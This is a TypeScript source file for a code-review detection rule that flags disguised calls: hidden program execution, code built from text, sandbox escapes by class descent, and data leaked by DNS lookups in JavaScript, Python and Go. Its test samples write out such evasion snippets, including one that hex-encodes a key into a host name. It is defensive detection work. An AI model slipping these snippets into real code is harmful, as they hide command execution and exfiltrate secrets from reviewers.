import type { RiskLevel } from '../../../core/review/risk.ts';
import type { Hit, Language, Rule, SourceFile } from '../../rule.ts';
import { findPlaces, toTextHit } from '../text/text-hit.ts';

interface Disguise {
  readonly pattern: RegExp;
  readonly message: string;
  readonly severity?: RiskLevel;
  /** What must stand elsewhere in the file. */
  readonly beside?: RegExp;
}

const SCRIPT: readonly Disguise[] = [
  { pattern: /\bprocess\s?\.\s?(?:binding|_linkedBinding)\s?\(\s?['"`](?:spawn_sync|process_wrap)/g, message: 'A program is started through the inside of Node, past its modules.' },
  { pattern: /\bReflect\s?\.\s?(?:apply|construct)\s?\(\s?(?:(?:globalThis\.)?(?:Function|eval)\b|[\w$.]{1,80}\.(?:exec|execSync|spawn|spawnSync|execFile)\b)/g, message: 'Code or a program is run through Reflect, which hides the call.' },
  { pattern: /(?<!prototype)\.(?:exec|execSync|spawn|spawnSync|execFile)\s?\.\s?(?:call|apply)\s?\(\s?(?:null|undefined|void 0)\b/g, message: 'A program is started through call or apply, which hides the call.', beside: /child_process/ },
  { pattern: /\.constructor\s?\((?!\s?['"`]return this\b)[^()\n]{1,200}\)\s?\(/g, message: 'A text is run as code through the constructor of a function.' },
  { pattern: /\b(?:lookup|resolve(?:4|6|Txt)?)\s?\([^;\n]{0,200}(?:toString\(\s?['"](?:hex|base64)|\bbtoa\b)/g, message: 'Encoded data is asked for as a host name: it leaves by DNS, where no list of hosts sees it.', beside: /\bdns\b/ },
];

const PYTHON: readonly Disguise[] = [
  { pattern: /\b__import__\(\s?['"](?:subprocess|pty|ctypes)['"]\s?\)|\b__import__\(\s?['"]os['"]\s?\)\s?\.\s?(?:system|popen|exec\w{0,3})\b/g, message: 'A module that starts programs is loaded inside of an expression, where no import names it.' },
  { pattern: /\b__builtins__\s?(?:\.\s?__dict__\s?)?\[|\bvars\(\s?__builtins__\b|\bgetattr\(\s?(?:os|subprocess|builtins|__builtins__)\s?,\s?(?:['"](?:system|popen|Popen|run|eval|exec\w{0,3})['"]|(?!\s?['"]\w{1,80}['"]\s?[,)]))/g, message: 'A function is taken by a computed name, which hides which one it is.' },
  { pattern: /(?:\bobject|__base__|__(?:mro|bases)__\[-?\d\])\.__subclasses__\(\)/g, message: 'Classes are found by descent: the usual way around a ban on imports.', severity: 'medium' },
  { pattern: /\b(?:gethostbyname(?:_ex)?|getaddrinfo|resolver\.(?:resolve|query))\([^;\n]{0,200}(?:\.hex\(|b(?:16|32|64|85)encode|hexlify)/g, message: 'Encoded data is asked for as a host name: it leaves by DNS, where no list of hosts sees it.' },
];

const GO: readonly Disguise[] = [
  { pattern: /(?:[=:,(]|\breturn)\s?exec\.Command(?:Context)?\s?[,)}\n]/g, message: 'What starts programs is called by reflection, which hides the call.', beside: /\breflect\.ValueOf\(/ },
];

const DISGUISES: Readonly<Record<Language, readonly Disguise[]>> = { javascript: SCRIPT, typescript: SCRIPT, tsx: SCRIPT, python: PYTHON, go: GO };

function* check(file: SourceFile): Iterable<Hit> {
  if (file.language === null) return;
  for (const { pattern, message, severity, beside } of DISGUISES[file.language]) {
    if (beside !== undefined && !beside.test(file.text)) continue;
    for (const place of findPlaces(file.text, pattern)) yield toTextHit(file, place, severity === undefined ? { message } : { message, severity });
  }
}

export const disguisedCall: Rule = {
  id: 'disguised-call',
  title: 'A call in disguise',
  severity: 'high',
  why: 'A server that starts a program, runs a text as code or looks up a host in a way that ordinary code has no use for hides it from whoever reads, and from rules that follow ordinary calls.',
  mend: 'Import the module and call the function by its name, or leave it out.',
  matches: [
    { path: 'a.js', text: "const { spawn } = process.binding('spawn_sync');\n", severity: 'high' },
    { path: 'b.js', text: "const cp = require('child_process');\ncp.exec.call(null, command);\n", severity: 'high' },
    { path: 'c.js', text: 'Reflect.construct(Function, [text])();\n', severity: 'high' },
    { path: 'd.js', text: "(async () => {}).constructor('return ' + text)();\n", severity: 'high' },
    { path: 'e.ts', text: "import dns from 'node:dns';\ndns.resolve(`${Buffer.from(key).toString('hex')}.sample.example`, done);\n", severity: 'high' },
    { path: 'f.py', text: 'text = __import__("subprocess").getoutput(query)\n', severity: 'high' },
    { path: 'g.py', text: 'run = __builtins__.__dict__[name]\n', severity: 'high' },
    { path: 'h.py', text: 'socket.gethostbyname(key.encode().hex() + ".sample.example")\n', severity: 'high' },
    { path: 'i.py', text: 'all = object.__subclasses__()\n', severity: 'medium' },
    { path: 'j.go', text: 'package main\n\nimport ("os/exec"; "reflect")\n\nvar call = reflect.ValueOf(exec.Command)\n', severity: 'high' },
  ],
  ignores: [
    { path: 'a.js', text: "const match = RegExp.prototype.exec.call(pattern, text);\nconst root = (function () {}).constructor('return this')();\n" },
    { path: 'b.js', text: "const { exec } = require('child_process');\nconst run = promisify(exec);\n" },
    { path: 'c.ts', text: "import dns from 'node:dns';\ndns.lookup(host, done);\n" },
    { path: 'd.py', text: 'version = __import__("sample").__version__\nvalue = getattr(settings, name)\nflags = getattr(os, "O_CLOEXEC", 0)\nall = Shape.__subclasses__()\n' },
    { path: 'e.go', text: 'package main\n\nimport "os/exec"\n\nvar execCommand = exec.Command\n' },
  ],
  check,
};
